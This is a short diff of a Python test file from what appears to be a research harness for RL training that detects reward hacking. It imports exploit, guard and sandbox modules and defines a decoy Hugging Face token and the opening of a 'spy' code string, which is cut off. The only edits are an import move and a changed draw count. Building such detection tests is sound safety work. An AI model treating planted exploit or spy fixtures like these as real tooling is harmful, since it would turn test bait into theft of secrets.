@@ -30,7 +30,8 @@ from vgrout import policy as policies
 from vgrout.cli import load_splits, parse
 from vgrout.exploits import canonical_hack
 from vgrout.guard import Diverged, Guard, describe, explained
-from vgrout.lora2r import BLOCKS, BlockOptimizer
+from vgrout.lora2r import BLOCKS
+from vgrout.optimizer import BlockOptimizer
 from vgrout.records import Run, load_adapter, load_metrics, load_record
 from vgrout.rollouts import Sampling
 from vgrout.sandbox import Job, Sandbox, SandboxError
@@ -38,7 +39,7 @@ from vgrout.store import load_tensors
 from vgrout.tensors import GateOutput
 from vgrout.types import EvalResult, UserError
 
-SHORT = ("--steps 3 --num-prompts 3 --num-generations 4 --max-completion-length 96 --teacher-until 9 --final-draws 4 --save-every 1 "
+SHORT = ("--steps 3 --num-prompts 3 --num-generations 4 --max-completion-length 96 --teacher-until 9 --final-draws 24 --save-every 1 "
          "--eval-every 0 --refresh-every 0 --pair-modes run_tests --threads 1 --workers 1").split()  # fmt: skip
 TOKEN = "hf_" + "plantedsecret" * 2
 SPY = """import os
